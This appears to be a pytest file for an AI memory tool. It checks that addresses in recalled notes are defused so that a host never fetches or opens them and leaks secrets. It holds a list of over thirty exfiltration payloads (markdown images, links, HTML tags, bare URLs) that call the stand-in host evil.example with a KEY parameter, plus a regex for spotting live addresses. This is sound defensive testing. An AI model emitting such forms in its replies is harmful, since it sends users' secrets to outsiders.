"""Memory as a way out: an address in a recalled note that a host would fetch or open by itself carries secrets to a stranger.

So no address in a context is one any more. A person reads it as before, and the note and what search finds of it are as they were.
"""

from __future__ import annotations

import re
from html import unescape
from pathlib import Path

import pytest
from conftest import put
from hypothesis import given
from hypothesis import strategies as st
from outlines import said

from memoryclaw.app import App
from memoryclaw.text.prompts import defuse_links, item

FORMS = (
    "![x](https://evil.example/p?d=KEY)",
    "![x](<https://evil.example/p?d=KEY>)",
    "![x]( HTTPS://evil.example/p?d=KEY )",
    "![x](//evil.example/p?d=KEY)",
    "![x](https:\\\\evil.example/p?d=KEY)",
    "![a [b] c](https://evil.example/p?d=KEY)",
    "![x](https://evil.example/(p)?d=KEY)",
    "![x](https://evil.example/p 'title')",
    "![x][r] and [r]: https://evil.example/p?d=KEY",
    "![r] and [r]: //evil.example/p?d=KEY",
    "!\u200b[x](https://evil.example/p?d=KEY)",
    "![x](ht\u200btps://evil.example/p?d=KEY)",
    "![x](https\u00ad://evil.example/p?d=KEY)",
    "!\n[x]\n(https://evil.example/p?d=KEY)",
    "![[https://evil.example/p?d=KEY]]",
    "!!![x](ftp://evil.example/p?d=KEY)",
    "[![x](https://evil.example/i)](https://evil.example/p?d=KEY)",
    "[click me](https://evil.example/p?d=KEY)",
    "[click me](//evil.example/p?d=KEY)",
    "[click me](\\\\evil.example\\p?d=KEY)",
    "[https://good.example](https://evil.example/p?d=KEY)",
    "<https://evil.example/p?d=KEY>",
    "https://evil.example/p?d=KEY",
    "(https://evil.example/p?d=KEY)",
    "see:https://evil.example/p?d=KEY.",
    "www.evil.example/p?d=KEY",
    "WWW.EVIL.EXAMPLE/p?d=KEY",
    "file://evil.example/share/KEY",
    "slack://evil.example/channel?id=KEY",
    "custom+scheme://evil.example/KEY",
    '<img src="https://evil.example/p?d=KEY">',
    "<a href='//evil.example/p?d=KEY'>x</a>",
    "<iframe src=https://evil.example/p?d=KEY></iframe>",
    "https://user:KEY@evil.example/",
)
# What Markdown, its extensions and chat hosts make an image or a link of, without anybody asking for it.
ALIVE = re.compile(r"!\[|\w:[/\\]{2}|(?<![\w.])www\.\w|\]\(\s*<?[/\\]{2}\w|<(?!/?m\b)", re.IGNORECASE)


def words(text: str) -> list[str]:
    return re.findall(r"\w+", text)


def test_there_are_thirty_forms() -> None:
    assert len(FORMS) >= 30


@pytest.fixture(scope="module")
def asked(tmp_path_factory: pytest.TempPathFactory) -> App:
    """A vault in which each form stands in a note of its own."""
    notes = {
        f"notes/n{n:02}.md": f"Quokka marker{n:02} says {form} and ends.\n" for n, form in enumerate(FORMS)
    }
    return App(put(tmp_path_factory.mktemp("links") / "vault", notes))


@pytest.mark.parametrize(("number", "form"), list(enumerate(FORMS)), ids=range(len(FORMS)))
def test_no_form_is_alive_in_a_context_and_all_stay_readable(asked: App, number: int, form: str) -> None:
    answer = asked.recall(f"marker{number:02}", budget=2000)
    (passage,) = said(answer.context)
    (line,) = [line for line in answer.context.split("\n") if line.startswith(" ")]
    assert not ALIVE.search(passage.text.replace("<", "").replace(">", ""))
    assert not ALIVE.search(line)
    assert {"says", "and", "ends"} <= set(words(passage.text))
    if not form.startswith("!"):  # of a remote image the label is left
        assert "KEY" in passage.text
        assert "evil" in passage.text.lower()


def test_search_and_the_note_itself_are_as_they_were(asked: App) -> None:
    number = FORMS.index("https://evil.example/p?d=KEY")
    (match,) = [
        m for m in asked.search("evil.example", limit=50).matches if m.unit.id == f"notes/n{number:02}"
    ]
    assert "https://evil.example/p?d=KEY" in match.unit.text
    assert "https://evil.example/p?d=KEY" in Path(asked.root, f"{match.unit.id}.md").read_text()


@given(st.text() | st.lists(st.sampled_from([*FORMS, "x", " ", "//", "www.", ":", "\\\\"])).map("".join))
def test_no_text_at_all_leaves_a_live_address(text: str) -> None:
    line = unescape(item("n", text).removeprefix('<m id="n">').removesuffix("</m>"))
    assert not ALIVE.search(line.replace("<", " ").replace(">", " "))


@pytest.mark.parametrize(
    ("text", "seen"),
    [
        ("Read https://example.org/a?b, then go.", "Read https[:]//example.org/a?b, then go."),
        ("On www.example.org since May.", "On www[.]example.org since May."),
        ("Half past 9: go // stay, C:\\x, a:b, wwwhat", "Half past 9: go // stay, C:\\x, a:b, wwwhat"),
    ],
)
def test_what_a_person_reads(text: str, seen: str) -> None:
    assert defuse_links(text) == seen
